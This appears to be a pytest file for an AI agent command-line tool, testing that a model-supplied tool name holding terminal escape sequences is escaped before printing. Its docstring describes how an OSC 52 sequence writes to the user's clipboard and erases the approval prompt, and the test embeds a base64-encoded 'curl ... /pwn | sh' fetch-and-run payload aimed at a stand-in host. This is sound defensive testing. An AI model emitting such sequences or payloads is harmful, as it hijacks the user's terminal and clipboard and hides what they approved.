"""A model's own words for a tool call reach the person's terminal raw
(adversary round 3, on what zapcli prints of agent-controlled text).

Arguments, results, text and reasons are escaped (`render.text.escape_controls`)
wherever they are printed; the NAME of the tool the model calls is not. The
loop records `tool_call` with the model's name as it came when no granted
tool has that name (`agent.loop._run_calls.announce`), and two printers put
it on the terminal as is:

- `zapcli run` streams `· NAME ARGS` to stderr (`cli.foreground._TerminalSink._tool_call`);
- `zapcli replay ID` prints `tool_call NAME ARGS` (`render.replay._record_line`).

A name such as `ESC ] 52 ; c ; <base64> ESC \\` is OSC 52: xterm, kitty,
WezTerm, iTerm2, foot, Windows Terminal and tmux (set-clipboard) put the
base64 text in the person's clipboard — a command for the next paste into
their shell, outside every sandbox. `ESC [ 2 K`/`ESC [ 1 A` erase and move
over lines already shown (the approval question above it), `ESC ] 0 ;` sets
the title.

The outside effect asserted: the bytes that reach a real pty (the person's
terminal) hold the ESC sequence. Both failed on the code before; every
human line is escaped at its sink now (`cli.output.emit_lines`, the run's
stderr writer `cli.foreground._say`, `render.replay.record_line`, top's
LAST column).
"""

from __future__ import annotations

import base64
import sys

import pytest

from tests.cli.test_run_approvals_pty import Terminal
from tests.conftest import Zap, wait_until
from zapcli.testing import ScriptedServer

PAYLOAD = base64.b64encode(b"curl -s http://127.0.0.1:9/pwn | sh\n").decode()
OSC52 = f"\x1b]52;c;{PAYLOAD}\x1b\\"  # ST-terminated: rich's BEL stripping does not touch it
NAME = f"x{OSC52}\x1b[2K\x1b[1A"


def _env(zap: Zap, srv: ScriptedServer) -> dict[str, str]:
    return dict(zap.env, OPENAI_BASE_URL=srv.base_url, ZAPCLI_MODEL="scripted",
                OPENAI_API_KEY="sk-test-adv3-term-0123456789", TERM="xterm-256color")


def _script(marker: str) -> list[dict]:
    return [{"match": marker, "turns": [
        {"tool_calls": [{"name": NAME, "arguments": {"path": "README.md"}}]},
        {"text": "parent done"}]}]


@pytest.mark.timeout(120)
def test_a_tool_name_writes_the_clipboard_at_zapcli_run(zap: Zap):
    marker = "ADV3-RUN-OSC52"
    with ScriptedServer(_script(marker)) as srv:
        term = Terminal([sys.executable, "-m", "zapcli", "run", marker], _env(zap, srv), str(zap.cwd))
        seen = term.expect(b"parent done", 90)
        term.finish()
    assert b"\x1b]52;c;" not in seen, "OSC 52 (clipboard write) reached the person's terminal"


@pytest.mark.timeout(120)
def test_a_tool_name_writes_the_clipboard_at_replay(zap: Zap):
    marker = "ADV3-REPLAY-OSC52"
    with ScriptedServer(_script(marker)) as srv:
        zap.env.update(_env(zap, srv))
        sid = zap("spawn", "--", f"{marker} go").out.strip()
        wait_until(lambda: zap.status(sid) in ("completed", "failed"), 90)
    term = Terminal([sys.executable, "-m", "zapcli", "replay", sid], zap.env, str(zap.cwd))
    seen = term.expect(b"tool_call", 60)
    try:
        term.proc.wait(30)
        seen = term.expect(b"status", 10)
    finally:
        if term.proc.poll() is None:
            term.proc.kill()
    assert b"\x1b]52;c;" not in seen, "OSC 52 (clipboard write) reached the person's terminal"
